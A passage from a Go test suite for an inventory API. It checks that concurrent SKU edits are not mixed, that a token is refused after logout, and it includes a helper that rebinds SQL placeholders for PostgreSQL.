				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				statuses[i] = resp.StatusCode
			}
		})
	}
	wg.Wait()
	slices.Sort(statuses)
	if slices.ContainsFunc(statuses, func(st int) bool { return st != 200 && st != 201 && st != 409 }) || slices.Index(statuses, 201) < 0 {
		t.Errorf("concurrent edits: %v", statuses)
	}
	if slices.Contains(statuses, 409) {
		t.Logf("concurrent edits of a new SKU: %v (a creation race answers 409)", statuses)
	}
	var got stock.SKU
	r.s.mustJSON("GET", "/v1/skus/"+sku, "ADMIN", nil, 200, &got)
	var i int
	if _, err := fmt.Sscanf(got.Name, "edit %d", &i); err != nil || got.NameZh != fmt.Sprintf("編輯 %d", i) || got.UnitCost.String() != fmt.Sprintf("%d.00", i+1) {
		t.Errorf("the SKU mixes edits: %+v", got)
	}
}

// A signed-out token is refused, and signing out twice is refused.
func scenarioLogout(r *campaignRun, t *testing.T) {
	code := r.newEmployee(t, "camp-out")
	st, b, _ := r.signIn(code, "2468", "d")
	if st != 200 {
		t.Fatalf("sign-in: %d %s", st, b)
	}
	var in struct{ Token string }
	mustUnmarshal(t, b, &in)
	if resp, b := r.s.rawToken("POST", "/v1/auth/logout", in.Token, "", nil); resp.StatusCode != 204 {
		t.Fatalf("logout: %d %s", resp.StatusCode, b)
	}
	for _, p := range []string{"/v1/me", "/v1/auth/logout"} {
		method := "GET"
		if p == "/v1/auth/logout" {
			method = "POST"
		}
		if resp, b := r.s.rawToken(method, p, in.Token, "", nil); resp.StatusCode != 401 {
			t.Errorf("%s %s after logout: %d %s", method, p, resp.StatusCode, b)
		}
	}
}

// rebind turns ? placeholders into $n on PostgreSQL.
func (r *campaignRun) rebind(q string) string {
	if r.db != "postgres" {
		return q
	}
	for i := 1; strings.Contains(q, "?"); i++ {
		q = strings.Replace(q, "?", fmt.Sprintf("$%d", i), 1)
	}
	return q
}
